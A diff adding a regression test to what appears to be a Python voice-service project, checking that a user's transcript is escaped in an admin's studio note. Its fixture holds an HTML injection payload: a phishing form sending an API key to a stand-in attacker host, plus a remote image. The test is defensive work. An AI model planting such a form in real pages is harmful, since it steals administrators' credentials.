@@ -239,3 +239,18 @@ def test_two_admins_revoking_each_other_at_once_leave_one(tmp_path):
         for thread in threads:
             thread.join()
         assert sorted(outcomes) == ["refused", "revoked"], outcomes
+
+
+def test_a_voices_transcript_is_shown_as_written_in_the_studio_note() -> None:
+    """A user's transcript holding a `<form>` or an image was rendered in the admin's studio note (a
+    phishing form for the admin's key inside the real page, an image fetched from elsewhere)."""
+    from types import SimpleNamespace
+
+    from cosyserve.ui.studio_events import voice_lock
+
+    transcript = "<form action=http://evil.example/steal><input name=api_key></form> ![t](http://e/x.png)"
+    voice = SimpleNamespace(name="md_voice", transcript=transcript)
+    bridge = SimpleNamespace(voice=lambda principal, voice_id: voice, may_read_private=lambda p, v: True)
+    note, *_ = voice_lock(SimpleNamespace(bridge=bridge), None, "zero_shot", "v1", "en")
+    assert "<form" not in note.replace("\\<form", "") and "![" not in note.replace("\\!\\[", "")
+    assert "md\\_voice" in note
